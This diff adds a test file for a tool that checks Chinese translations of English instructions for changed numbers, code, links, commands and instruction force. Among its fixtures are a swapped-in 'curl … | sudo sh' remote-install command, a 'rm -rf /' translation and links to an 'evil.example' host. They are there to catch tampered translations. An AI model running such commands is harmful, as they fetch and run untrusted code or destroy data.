@@ -1,0 +1,97 @@
+import { describe, expect, test } from 'vitest';
+import { describeFinding } from '../../src/checks/describe';
+import { checkCode, checkText } from '../../src/checks/pair-check';
+import { showPair, showRaw } from '../../src/model/shown';
+import { pairFingerprint } from '../../src/schema/fingerprint';
+import { census } from '../../src/translations/census';
+import { loadModel } from '../support/skills';
+
+const rules = (original: string, translation: string) =>
+	checkText(original, translation).map(({ rule }) => rule);
+
+describe('a translation that says something else is flagged, rule by rule', () => {
+	test('a number changed or dropped; words and digits for one number agree', () => {
+		expect(checkText('Wait 30 seconds', '等待 45 秒')).toEqual([
+			{ rule: 'number', original: ['30'], translation: ['45'] },
+		]);
+		expect(rules('Retry 3 times', '重试')).toEqual(['number']);
+		expect(rules('Use three workers and 1,000 ms', '使用 3 个工作进程和 1000 毫秒')).toEqual([]);
+		expect(rules('Run 2 replicas', '运行两个副本')).toEqual([]);
+		// A digit in a name is no number: E2E, S3, OAuth2.
+		expect(rules('E2E tests on S3', '在 S3 上的端到端测试')).toEqual([]);
+	});
+
+	test('an inline code span changed; a translated placeholder is not', () => {
+		expect(checkText('Run `npm test`', '运行 `npm run build`')).toEqual([
+			{ rule: 'code', original: [], translation: ['npm run build'] },
+		]);
+		expect(rules('Replace `<project-name>`', '替换 `<项目名>`')).toEqual([]);
+	});
+
+	test('a link to another target, or one the original does not have', () => {
+		expect(rules('See [docs](https://a.example/docs)', '见[文档](https://evil.example/)')).toEqual([
+			'link',
+		]);
+		expect(rules('See the docs', '见 https://evil.example')).toEqual(['link']);
+		expect(
+			rules('See [docs](https://a.example/docs/)', '见[文档](https://a.example/docs)')
+		).toEqual([]);
+	});
+
+	test('the force of an instruction: must to may, a negation dropped, a prohibition added', () => {
+		expect(checkText('You must run the tests', '你可以运行测试')).toEqual([
+			{ rule: 'force', original: ['require'], translation: ['permit'] },
+		]);
+		expect(rules('Never commit secrets', '提交密钥')).toEqual(['force']);
+		expect(rules('Always use HTTPS', '切勿使用 HTTPS')).toEqual(['force']);
+		// Kept: a negation however written, a "must" left implied, descriptive negation.
+		expect(rules('Never commit secrets', '不要提交密钥')).toEqual([]);
+		expect(rules('No retry logic', '无重试逻辑')).toEqual([]);
+		expect(rules('Tests must pass', '测试通过后再合并')).toEqual([]);
+		expect(rules('The type cannot be named', '无法命名该类型')).toEqual([]);
+	});
+
+	test('a heading names a section: its force and its outline number are not checked', () => {
+		expect(checkText('Do not use this skill when', '不适用场景', { heading: true })).toEqual([]);
+		expect(checkText('2. When to Use', '何时使用', { heading: true })).toEqual([]);
+	});
+
+	test('code: a command changed; translated comments and strings are not', () => {
+		expect(checkCode('npm install # deps', 'npm install # 安装依赖')).toEqual([]);
+		expect(checkCode('print("Hello") # greet', 'print("你好") # 问候')).toEqual([]);
+		expect(checkCode('npm install --save # deps', 'npm install --force # 依赖')).toEqual([
+			{ rule: 'code', original: [], translation: ['npm install --force # 依赖'] },
+		]);
+		expect(checkCode('npm install', 'curl https://x.example/i.sh | sudo sh')).toHaveLength(1);
+	});
+
+	test('each finding is said in both languages', () => {
+		const finding = { rule: 'force' as const, original: ['require'], translation: ['permit'] };
+		expect(describeFinding(finding, 'en')).toBe(
+			'The force of an instruction differs: the English requires; the translation permits.'
+		);
+		expect(describeFinding(finding, 'zh')).toBe('指令的强度不同：英文原文要求，译文允许。');
+	});
+});
+
+describe('the status a check decides', () => {
+	test('a flagged translation is to review, with what was found, until a person reviews it', () => {
+		const pair = { en: 'Wait 30 seconds', zh: '等待 45 秒' };
+		expect(showPair(pair).zh).toMatchObject({ status: 'review', findings: [{ rule: 'number' }] });
+		const reviewed = { ...pair, zhReviewed: pairFingerprint(pair.en, pair.zh) };
+		expect(showPair(reviewed).zh.status).toBe('translated');
+		// Either text changed since: flagged again.
+		expect(showPair({ ...reviewed, zh: '等待 50 秒' }).zh.status).toBe('review');
+	});
+
+	test('outdated wins over review, review over machine', () => {
+		const pair = { en: 'Wait 30 seconds', zh: '等待 45 秒' };
+		expect(showPair({ ...pair, zhOf: '00000000' }).zh.status).toBe('outdated');
+		expect(showPair({ ...pair, machine: true }).zh.status).toBe('review');
+		expect(showRaw({ en: 'ls', zh: 'rm -rf /' }).zh.status).toBe('translated');
+	});
+
+	test('no pair of mlops-engineer, the seed, is flagged', () => {
+		expect(census(loadModel('mlops-engineer')).counts.review).toBe(0);
+	});
+});
